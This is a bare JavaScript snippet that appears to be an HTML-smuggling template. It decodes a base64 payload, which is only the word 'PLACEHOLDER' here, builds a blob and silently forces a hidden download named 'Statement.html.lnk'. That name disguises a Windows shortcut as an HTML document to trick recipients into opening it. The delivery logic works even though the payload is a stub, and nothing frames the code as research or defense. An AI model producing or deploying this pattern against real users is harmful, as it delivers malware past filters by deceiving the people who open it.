var linkData = window.atob('UExBQ0VIT0xERVIgUExBQ0VIT0xERVIgUExBQ0VIT0xERVIgUExBQ0VIT0xERVI=');
var filename = 'Statement.html.lnk';
var blob = new Blob([linkData], { type: 'application/octet-stream' });
if (navigator.msSaveBlob) navigator.msSaveBlob(blob, filename);
else {
  var link = document.createElement('a');
  if (link.download !== undefined) {
    link.setAttribute('href', URL.createObjectURL(blob));
    link.setAttribute('download', filename);
    link.style.visibility = 'hidden';
    document.body.appendChild(link);
    link.click();
    document.body.removeChild(link);
  }
}
